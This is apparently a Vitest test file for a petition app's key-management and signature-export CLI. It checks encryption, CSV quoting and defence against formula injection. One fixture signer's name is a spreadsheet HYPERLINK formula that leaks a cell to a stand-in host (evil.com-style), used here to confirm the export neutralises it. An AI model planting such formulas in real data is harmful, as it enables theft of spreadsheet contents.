/**
 * `outcry keys new|list` and `outcry export signatures` as an organiser runs them: real processes against the database
 * a running app signs into, on both dialects. The secret key never reaches the database; the export opens what
 * supporters signed, escapes it for spreadsheets, filters by status, refuses or reports a wrong key, and streams.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { generateOrganisationKeyPair, openSealingWindow, sealRecord, type OrganisationKeyPair } from '../src/crypto/hpke.ts';
import type { Database } from '../src/db/database.ts';
import { readKeyFile, writeKeyFile } from '../src/features/keys/key-file.ts';
import { csvCell, csvRow, CSV_COLUMNS, exportSignatures } from '../src/features/petitions/export.ts';
import { recordAad } from '../src/features/petitions/signing/sealer.ts';
import { createPetition } from '../src/features/petitions/service.ts';
import { ProgressBar } from '../src/progress-bar.ts';
import { startTestApp, type TestContext } from './helpers/app.ts';
import { makeCampaign, uniqueSuffix } from './helpers/factories.ts';
import { pressLink, signViaApi, type Signer } from './helpers/signing.ts';
import { runCli as run } from './helpers/cli.ts';

/** RFC 4180, as a spreadsheet reads it: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else field += ch;
  }
  if (field !== '' || row.length > 0) throw new Error('the CSV does not end with CRLF');
  return rows;
}

type Row = Record<(typeof CSV_COLUMNS)[number], string>;

function csvRecords(text: string): Row[] {
  const [header, ...rows] = parseCsv(text);
  expect(header).toEqual([...CSV_COLUMNS]);
  return rows.map((cells) => Object.fromEntries(CSV_COLUMNS.map((column, i) => [column, cells[i]])) as Row);
}

/**
 * Every file under `dir` (the SQLite database, its WAL and shared memory), as one buffer. Read by a child process:
 * opening and closing the database file in this process would drop the app's POSIX locks on it (they are per process),
 * and the next CLI process, believing itself the last connection, would checkpoint and delete the WAL under the app.
 */
function bytesUnder(dir: string): Buffer {
  const files = readdirSync(dir, { recursive: true, encoding: 'utf8' })
    .map((name) => path.join(dir, name))
    .filter((file) => statSync(file).isFile());
  return execFileSync('cat', files, { maxBuffer: 256 * 1024 * 1024 });
}

describe('CSV cells', () => {
  it('quotes per RFC 4180 and makes formula-looking cells inert', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('Smith, John')).toBe('"Smith, John"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
    for (const lead of ['=', '+', '-', '@', '\t', '\r'])
      expect(csvCell(`${lead}1+2`).startsWith(`'${lead}`) || csvCell(`${lead}1+2`).startsWith(`"'${lead}`)).toBe(true);
    expect(csvCell('Мария')).toBe('Мария');
    expect(csvRow(['a', 'b,c', ''])).toBe('a,"b,c",\r\n');
  });
});

describe('progress bar', () => {
  it('draws count/total, percentage and rate on a terminal', () => {
    const written: string[] = [];
    let now = 0;
    const bar = new ProgressBar(
      {
        isTTY: true,
        columns: 100,
        write: (s) => {
          written.push(s);
          return true;
        },
      },
      'Exporting',
      () => now,
    );
    now = 2000;
    bar.update(1250, 2500);
    expect(written.join('')).toMatch(/^\r\x1b\[2KExporting \[#+-+\] 1,250\/2,500 {2}50% 625\/s$/);
    bar.finish(['Done.']);
    expect(written.join('')).toContain('\nDone.\n');
  });

  it('writes nothing but the summary when the stream is not a terminal', () => {
    const written: string[] = [];
    const bar = new ProgressBar(
      {
        isTTY: false,
        write: (s) => {
          written.push(s);
          return true;
        },
      },
      'Exporting',
    );
    bar.update(1, 2);
    bar.update(2, 2);
    bar.finish(['Exported 2 of 2.']);
    expect(written).toEqual(['Exported 2 of 2.\n']);
  });
});

const PEOPLE: Record<string, Signer> = {
  comma: { name: 'Smith, John', email: `smith-${uniqueSuffix()}@example.org`, country: 'GB', postcode: 'SW1A 1AA', updates: true, ref: 'share42' },
  quotes: { name: 'Anna "Nyusha" Ivanova', email: `anna-${uniqueSuffix()}@example.org`, country: 'RU', postcode: '' },
  cyrillic: { name: 'Мария Петрова', email: `maria-${uniqueSuffix()}@example.org`, country: 'RU', postcode: '123456' },
  formula: { name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', email: `-dash${uniqueSuffix()}@example.org`, country: 'DE', postcode: '+49' },
  pending: { name: '@pending person', email: `pending-${uniqueSuffix()}@example.org`, country: 'FR' },
  withdrawn: { name: 'Changed Mind', email: `withdrawn-${uniqueSuffix()}@example.org`, country: 'GB', postcode: 'EC1A 1BB' },
  suspect: { name: 'Fast Script', email: `suspect-${uniqueSuffix()}@example.org`, country: 'US', forgedStamp: true },
};

for (const dialect of ['sqlite', 'postgres'] as const) {
  const enabled = dialect === 'sqlite' || inject('hasPostgres');
  (enabled ? describe : describe.skip)(`outcry keys and export signatures [${dialect}]`, () => {
    let ctx: TestContext & { close(): Promise<void> };
    let env: Record<string, string>;
    let keyDir: string;
    let keyFile: string;
    let key: OrganisationKeyPair;
    let slug: string;
    let petitionId: number;
    const exportArgs = (...more: string[]) => ['export', 'signatures', '--petition', String(petitionId), '--key', keyFile, ...more];

    beforeAll(async () => {
      ctx = await startTestApp(dialect);
      keyDir = mkdtempSync(path.join(tmpdir(), 'outcry-keys-'));
      keyFile = path.join(keyDir, 'organisation.key');
      env = { DATA_DIR: ctx.dataDir, DATABASE_URL: ctx.config.databaseUrl, LOG_LEVEL: 'warn' };
      const campaign = await makeCampaign(ctx.db, { status: 'published' });
      slug = campaign.input.slug;
      petitionId = await createPetition(ctx.db, {
        userId: null,
        campaignId: campaign.id,
        input: { goal: 100, milestones: [], texts: { en: { title: 'Free them', target: 'The Minister', bodyMd: 'Now.' } } },
      });
    });
    afterAll(async () => {
      await ctx?.close();
      rmSync(keyDir, { recursive: true, force: true });
    });

    it('lists no key before there is one', async () => {
      const listed = await run(['keys', 'list'], env);
      expect(listed.code).toBe(0);
      expect(listed.stdout).toContain('No organisation key yet');
    });

    it('keys new writes a 0600 key file, activates only the public key, and says to move and back up the file', async () => {
      const created = await run(['keys', 'new', '--out', keyFile], env);
      expect(created.stderr).toBe('');
      expect(created.code).toBe(0);
      key = readKeyFile(keyFile);
      expect(created.stdout).toContain(`Created organisation key ${key.keyId}`);
      expect(created.stdout).toContain('Move this file off the server');
      expect(created.stdout).toContain('Make a backup copy now');
      expect(created.stdout).toContain('within 5 seconds');
      expect(statSync(keyFile).mode & 0o777).toBe(0o600);

      const rows = await ctx.db.selectFrom('organisation_keys').selectAll().execute();
      expect(rows.map((r) => [r.key_id, r.public_key, Number(r.active)])).toEqual([[key.keyId, key.publicKey.toString('base64url'), 1]]);

      const secret = key.secretKey.toString('base64url');
      if (dialect === 'sqlite') {
        const bytes = bytesUnder(ctx.dataDir);
        expect(bytes.includes(key.publicKey.toString('base64url'))).toBe(true);
        expect(bytes.includes(secret)).toBe(false);
        expect(bytes.includes(key.secretKey)).toBe(false);
        expect(bytes.includes(key.secretKey.toString('hex'))).toBe(false);
        expect(bytes.includes(key.secretKey.toString('base64'))).toBe(false);
      } else {
        const tables = ['organisation_keys', 'settings', 'audit_log', 'sealing_windows', 'signatures', 'jobs'] as const;
        const dump = JSON.stringify(await Promise.all(tables.map((table) => ctx.db.selectFrom(table).selectAll().execute())));
        expect(dump).toContain(key.publicKey.toString('base64url'));
        for (const form of [secret, key.secretKey.toString('hex'), key.secretKey.toString('base64')]) expect(dump).not.toContain(form);
      }
    });

    it('keys new never overwrites a key file', async () => {
      const before = readFileSync(keyFile, 'utf8');
      const again = await run(['keys', 'new', '--out', keyFile], env);
      expect(again.code).toBe(1);
      expect(again.stderr).toContain('already exists');
      expect(readFileSync(keyFile, 'utf8')).toBe(before);
      expect(await ctx.db.selectFrom('organisation_keys').select('key_id').execute()).toHaveLength(1);
    });

    it('keys list shows the key, active', async () => {
      const listed = await run(['keys', 'list'], env);
      expect(listed.code).toBe(0);
      expect(listed.stdout).toMatch(new RegExp(`${key.keyId}\\s+yes\\s+\\d{4}-\\d{2}-\\d{2}T`));
    });

    it('exports what supporters signed through the app, escaped for spreadsheets', async () => {
      ctx.app.signing.sealer.keyChanged();
      for (const signer of Object.values(PEOPLE)) expect(await signViaApi(ctx.app, slug, signer)).toBe(202);
      for (const who of ['comma', 'quotes', 'cyrillic', 'formula', 'withdrawn', 'suspect'] as const) await pressLink(ctx.app, PEOPLE[who]!.email, 'confirm');
      await pressLink(ctx.app, PEOPLE['withdrawn']!.email, 'withdraw');

      const result = await run(exportArgs(), env);
      expect(result.code).toBe(0);
      // Standard error holds only the summary: no progress bar when it is not a terminal.
      expect(result.stderr).toBe(`Exported 4 of 4 signatures of petition #${petitionId} to standard output.\n`);
      const rows = csvRecords(result.stdout);
      expect(rows.map((r) => r.name)).toEqual([PEOPLE['comma']!.name, PEOPLE['quotes']!.name, PEOPLE['cyrillic']!.name, `'${PEOPLE['formula']!.name}`]);
      const [comma, quotes, cyrillic, formula] = rows as [Row, Row, Row, Row];
      expect(comma).toMatchObject({
        status: 'confirmed',
        country: 'GB',
        email: PEOPLE['comma']!.email,
        postcode: 'SW1A 1AA',
        wants_updates: 'yes',
        ref: 'share42',
        suspect: 'no',
        suspect_reason: '',
      });
      expect(comma.confirmed_at).toMatch(/^\d{4}-\d{2}-\d{2}T/);
      expect(comma.created_at).toMatch(/^\d{4}-\d{2}-\d{2}T/);
      expect(quotes).toMatchObject({ country: 'RU', postcode: '', wants_updates: 'no', ref: '' });
      expect(cyrillic).toMatchObject({ country: 'RU', postcode: '123456' });
      expect(formula).toMatchObject({ country: 'DE', email: `'${PEOPLE['formula']!.email}`, postcode: "'+49" });
      // Raw text: the formula is quoted and starts with an apostrophe; commas and quotes are inside quoted fields.
      expect(result.stdout).toContain('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"');
      expect(result.stdout).toContain('"Smith, John"');
      expect(result.stdout).toContain('"Anna ""Nyusha"" Ivanova"');
      expect(Number(comma.signature_id)).toBeLessThan(Number(quotes.signature_id));
    });

    it('writes the same CSV to a file readable by its owner only', async () => {
      const out = path.join(keyDir, 'signatures.csv');
      const toFile = await run(exportArgs('--out', out), env);
      expect(toFile.code).toBe(0);
      expect(toFile.stdout).toBe('');
      expect(toFile.stderr).toContain(`Exported 4 of 4 signatures of petition #${petitionId} to ${out}.`);
      expect(statSync(out).mode & 0o777).toBe(0o600);
      const toStdout = await run(exportArgs(), env);
      expect(readFileSync(out, 'utf8')).toBe(toStdout.stdout);
      expect(readdirSync(keyDir).filter((name) => name.endsWith('.partial'))).toEqual([]);
    });

    it('filters by status, and includes suspect signatures only when asked', async () => {
      const pending = csvRecords((await run(exportArgs('--status', 'pending'), env)).stdout);
      expect(pending.map((r) => [r.name, r.status])).toEqual([[`'${PEOPLE['pending']!.name}`, 'pending']]);

      const all = csvRecords((await run(exportArgs('--status', 'all'), env)).stdout);
      expect(all.map((r) => r.status)).toEqual(['confirmed', 'confirmed', 'confirmed', 'confirmed', 'pending', 'withdrawn']);
      const withdrawn = all.find((r) => r.status === 'withdrawn')!;
      expect(withdrawn).toMatchObject({ name: '', email: '', postcode: '', country: 'GB' });

      const everything = await run(exportArgs('--status', 'all', '--include-suspect'), env);
      expect(everything.stderr).toContain('Exported 7 of 7 signatures');
      expect(everything.stderr).toContain('(1 withdrawn, with their personal data erased)');
      const suspect = csvRecords(everything.stdout).find((r) => r.suspect === 'yes')!;
      expect(suspect).toMatchObject({ name: PEOPLE['suspect']!.name, suspect_reason: 'stamp:forged', status: 'confirmed' });

      const bad = await run(exportArgs('--status', 'everything'), env);
      expect(bad.code).not.toBe(0);
      expect(bad.stderr).toContain('Status must be one of confirmed, pending, all.');
    });

    it('refuses a key file that opens none of them, naming the key needed, and writes nothing', async () => {
      const stranger = await generateOrganisationKeyPair();
      const strangerFile = path.join(keyDir, 'stranger.key');
      writeKeyFile(strangerFile, stranger);
      const out = path.join(keyDir, 'never.csv');
      const result = await run(['export', 'signatures', '--petition', String(petitionId), '--key', strangerFile, '--out', out], env);
      expect(result.code).toBe(1);
      expect(result.stdout).toBe('');
      expect(result.stderr).toContain(`This key file holds key ${stranger.keyId}`);
      expect(result.stderr).toContain(`sealed to key ${key.keyId}`);
      expect(existsSync(out)).toBe(false);
      expect(readdirSync(keyDir).filter((name) => name.endsWith('.partial'))).toEqual([]);

      const notAKey = await run(['export', 'signatures', '--petition', String(petitionId), '--key', path.join(keyDir, 'signatures.csv')], env);
      expect(notAKey.code).toBe(1);
      expect(notAKey.stderr).toContain('is not an Outcry key file');
      const noPetition = await run(['export', 'signatures', '--petition', '999999', '--key', keyFile], env);
      expect(noPetition.code).toBe(1);
      expect(noPetition.stderr).toContain('There is no petition #999999.');
    });

    it('after a new key, exports what each key opens and reports the rest by key id', async () => {
      const secondFile = path.join(keyDir, 'second.key');
      const created = await run(['keys', 'new', '--out', secondFile], env);
      expect(created.code).toBe(0);
      const second = readKeyFile(secondFile);
      expect(created.stdout).toContain(`Signatures sealed earlier stay sealed to key ${key.keyId}`);
      expect((await run(['keys', 'list'], env)).stdout).toMatch(new RegExp(`${key.keyId}\\s+no\\s[\\s\\S]*${second.keyId}\\s+yes`));
      ctx.app.signing.sealer.keyChanged();
      const late: Signer = { name: 'Late Signer', email: `late-${uniqueSuffix()}@example.org`, country: 'NO' };
      expect(await signViaApi(ctx.app, slug, late)).toBe(202);
      await pressLink(ctx.app, late.email, 'confirm');

      const withFirst = await run(exportArgs(), env);
      expect(withFirst.code).toBe(3);
      expect(csvRecords(withFirst.stdout)).toHaveLength(4);
      expect(withFirst.stderr).toContain('Exported 4 of 5 signatures');
      expect(withFirst.stderr).toContain(
        `Not exported: 1 signature sealed to another key, ${second.keyId}. Export again with the key file of key ${second.keyId}.`,
      );

      const withSecond = await run(['export', 'signatures', '--petition', String(petitionId), '--key', secondFile], env);
      expect(withSecond.code).toBe(3);
      expect(csvRecords(withSecond.stdout).map((r) => r.name)).toEqual(['Late Signer']);
      expect(withSecond.stderr).toContain(`Not exported: 4 signatures sealed to another key, ${key.keyId}.`);
    });

    it('streams a large export page by page: 2,500 signatures, one line each', async () => {
      const big = await bulkSignatures(ctx.db, key, 2500);
      const out = path.join(keyDir, 'big.csv');
      const result = await run(['export', 'signatures', '--petition', String(big.petitionId), '--key', keyFile, '--out', out], env);
      expect(result.stderr).toBe(`Exported 2500 of 2500 signatures of petition #${big.petitionId} to ${out}.\n`);
      expect(result.code).toBe(0);
      const rows = csvRecords(readFileSync(out, 'utf8'));
      expect(rows).toHaveLength(2500);
      expect(rows[0]!.name).toBe('Signer 0, "first"');
      expect(rows[1]!.name).toBe('Signer 1\nsecond line');
      expect(rows[2499]!.name).toBe('Signer 2499');
      expect(rows.map((r) => r.email)).toEqual(Array.from({ length: 2500 }, (_, i) => `signer${i}@example.org`));
      const ids = rows.map((r) => Number(r.signature_id));
      expect(ids).toEqual([...ids].sort((a, b) => a - b));
    });

    it('reads in pages: the same rows whatever the page size', async () => {
      const all: string[] = [];
      const summary = await exportSignatures({
        db: ctx.db,
        petitionId,
        key,
        status: 'all',
        includeSuspect: true,
        pageSize: 2,
        write: async (chunk) => void all.push(chunk),
      });
      expect(summary).toMatchObject({ total: 8, written: 7, withdrawn: 1, failed: 0 });
      const rows = csvRecords(all.join(''));
      expect(rows).toHaveLength(7);
      expect(new Set(rows.map((r) => r.signature_id)).size).toBe(7);
    });

    it('warns loudly when the key file is written inside the server’s data folder', async () => {
      const inside = path.join(ctx.dataDir, 'careless.key');
      const created = await run(['keys', 'new', '--out', inside], env);
      expect(created.code).toBe(0);
      expect(created.stdout).toContain('This file is inside the server’s data folder (DATA_DIR). Move it out before anything else.');
      expect(statSync(inside).mode & 0o777).toBe(0o600);
    });
  });
}

/** Signatures sealed straight into the database (as the signing path seals them), in several sealing windows. */
async function bulkSignatures(db: Database, key: OrganisationKeyPair, count: number): Promise<{ petitionId: number }> {
  const campaign = await makeCampaign(db, { status: 'published' });
  const petitionId = await createPetition(db, {
    userId: null,
    campaignId: campaign.id,
    input: { goal: 10_000, milestones: [], texts: { en: { title: 'Many', target: 'Everyone', bodyMd: 'Many.' } } },
  });
  const aad = recordAad(petitionId);
  const now = new Date().toISOString();
  const WINDOW = 700;
  const CHUNK = 250;
  for (let start = 0; start < count; start += WINDOW) {
    const window = await openSealingWindow(key.publicKey);
    await db
      .insertInto('sealing_windows')
      .values({ id: window.id, key_id: window.keyId, enc: window.enc.toString('base64url'), created_at: now })
      .execute();
    for (let chunkStart = start; chunkStart < Math.min(start + WINDOW, count); chunkStart += CHUNK) {
      const rows = [];
      for (let i = chunkStart; i < Math.min(chunkStart + CHUNK, start + WINDOW, count); i += 1) {
        const name = i === 0 ? 'Signer 0, "first"' : i === 1 ? 'Signer 1\nsecond line' : `Signer ${i}`;
        rows.push({
          petition_id: petitionId,
          dedup_key: `bulk-${petitionId}-${i}`,
          window_id: window.id,
          sealed: sealRecord(window.key, Buffer.from(JSON.stringify({ name, email: `signer${i}@example.org`, postcode: '' })), aad),
          country: 'GB',
          status: 'confirmed' as const,
          suspect: 0 as const,
          suspect_reason: null,
          public_name: null,
          wants_updates: 0 as const,
          ref: null,
          confirm_token_hash: null,
          withdraw_token_hash: `bulk-withdraw-${petitionId}-${i}`,
          token_expires_at: now,
          last_mailed_at: now,
          created_at: now,
          confirmed_at: now,
          withdrawn_at: null,
        });
      }
      await db.insertInto('signatures').values(rows).execute();
    }
    window.key.fill(0);
  }
  return { petitionId };
}
